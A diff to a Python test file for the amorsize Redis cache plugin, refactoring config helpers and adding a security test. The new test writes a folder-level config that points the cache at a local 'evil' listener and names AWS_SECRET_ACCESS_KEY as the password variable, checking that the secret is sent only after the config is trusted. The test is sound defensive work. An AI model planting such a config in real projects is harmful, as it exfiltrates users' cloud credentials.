@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import os
 import socket
 import ssl
@@ -12,8 +13,8 @@ import threading
 import pytest
 import trustme
 
-from amorsize import ConfigError, config
-from amorsize.plugins import Backends
+from amorsize import AmorsizeWarning, CacheError, ConfigError
+from amorsize.testing import build_backend, describe_backend
 from amorsize_redis import RedisOptions
 from amorsize_redis.cache import RedisCache
 from servers import Listener
@@ -151,18 +152,18 @@ class TestTls:
             self.store(listener.port, ca_file=str(tmp_path / "ca.pem")).fetch("here")
 
 
-def settings(**options):
-    return config.load({"cache": "redis", "caches": {"redis": options}})
+def built(**options):
+    return build_backend("caches", "redis", {"caches": {"redis": options}})
 
 
 def test_it_is_chosen_by_name_with_options_of_its_own():
-    store = config.build("caches", "redis", settings(url="redis://example.org:7000/2", ttl_seconds=60))
+    store = built(url="redis://example.org:7000/2", ttl_seconds=60)
     assert isinstance(store, RedisCache)
     assert repr(store) == "RedisCache(example.org:7000)"
 
 
 def test_it_is_listed_as_ready():
-    (row,) = [row for row in Backends().describe() if row.name == "redis"]
+    row = describe_backend("caches", "redis")
     assert (row.kind, row.distribution, row.state) == ("caches", "amorsize-redis", "ready")
     assert row.options["read_timeout_seconds"] == 0.05
 
@@ -184,7 +185,7 @@ def test_it_is_listed_as_ready():
 )
 def test_a_url_that_is_none_or_holds_a_password_is_refused_without_repeating_it(url):
     with pytest.raises(ConfigError, match="caches.redis.url must ") as caught:
-        settings(url=url)
+        built(url=url)
     assert "hush" not in str(caught.value)
 
 
@@ -202,10 +203,41 @@ def test_a_url_that_is_none_or_holds_a_password_is_refused_without_repeating_it(
     ],
 )
 def test_an_option_out_of_range_is_refused(option, value):
-    with pytest.raises(ConfigError, match=f"caches.redis.{option} must "):
-        settings(**{option: value})
+    with pytest.raises(ConfigError, match=rf"caches.redis.{option}\b"):
+        built(**{option: value})
 
 
 def test_importing_the_plugin_does_not_import_redis_py():
     code = "import amorsize_redis, sys; sys.exit('redis' in sys.modules)"
     assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
+
+
+def test_a_config_found_in_a_folder_sends_nothing_anywhere_until_it_is_trusted(tmp_path, monkeypatch):
+    heard = []
+
+    def listen(sock):
+        heard.append(sock.recv(1000))
+
+    monkeypatch.delenv("AMORSIZE_CONFIG")
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret")
+    with Listener(listen) as evil:
+        (tmp_path / "amorsize.toml").write_text(
+            f'cache = "redis"\n[caches.redis]\nurl = "redis://127.0.0.1:{evil.port}/0"\n'
+            'password_variable = "AWS_SECRET_ACCESS_KEY"\nprefix = "other:"\nwait_seconds = 0.0\n'
+        )
+        with pytest.warns(AmorsizeWarning, match=r"redis.url, \S+.password_variable, \S+.prefix reach out"):
+            store = build_backend("caches", "redis")
+        assert store._options == RedisOptions(wait_seconds=0.0)
+        with contextlib.suppress(CacheError):  # there may be a server on this machine
+            store.fetch("func:here")
+        assert evil.connections == 0
+        command = [sys.executable, "-m", "amorsize", "config", "trust"]
+        said = subprocess.run(command, capture_output=True, text=True, timeout=60, check=True).stdout
+        assert 'password_variable = "AWS_SECRET_ACCESS_KEY"' in said
+        trusted = build_backend("caches", "redis")
+        with pytest.raises(CacheError):
+            trusted.fetch("func:here")
+        assert evil.connections >= 1
+    assert b"secret" in b"".join(heard)
